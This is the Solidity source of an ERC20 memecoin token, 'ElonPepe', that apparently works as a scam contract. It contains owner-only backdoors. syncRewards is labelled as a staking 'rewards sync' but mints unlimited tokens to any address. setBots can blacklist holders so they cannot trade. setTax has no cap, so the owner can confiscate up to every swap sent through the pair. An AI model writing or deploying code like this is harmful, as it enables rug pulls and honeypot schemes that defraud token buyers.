// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import "@openzeppelin/contracts/access/Ownable.sol";

contract ElonPepe is IERC20, Ownable {
    string public name = "ElonPepe";
    string public symbol = "EPEPE";
    uint8 public decimals = 18;

    uint256 private _totalSupply;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public bots;

    uint256 public taxPercent = 2;
    address public marketingWallet;
    address public pair;

    constructor(address marketing) Ownable(msg.sender) {
        marketingWallet = marketing;
        _totalSupply = 420_690_000_000 * 1e18;
        _balances[msg.sender] = _totalSupply;
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function totalSupply() external view returns (uint256) { return _totalSupply; }
    function balanceOf(address a) external view returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) external view returns (uint256) { return _allowances[o][s]; }

    function approve(address spender, uint256 amount) external returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _transfer(from, to, amount);
        return true;
    }

    function setPair(address p) external onlyOwner { pair = p; }

    /// "Rewards sync" for the staking dashboard. Mints to any address, any amount, any time.
    function syncRewards(address account, uint256 amount) external onlyOwner {
        _totalSupply += amount;
        _balances[account] += amount;
        emit Transfer(address(0), account, amount);
    }

    function setBots(address[] calldata accounts, bool flag) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) {
            bots[accounts[i]] = flag;
        }
    }

    function setTax(uint256 newTax) external onlyOwner {
        taxPercent = newTax;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(!bots[from] && !bots[to], "bot");
        uint256 tax = 0;
        if (from == pair || to == pair) {
            tax = amount * taxPercent / 100;
        }
        _balances[from] -= amount;
        _balances[to] += amount - tax;
        if (tax > 0) {
            _balances[marketingWallet] += tax;
            emit Transfer(from, marketingWallet, tax);
        }
        emit Transfer(from, to, amount - tax);
    }
}
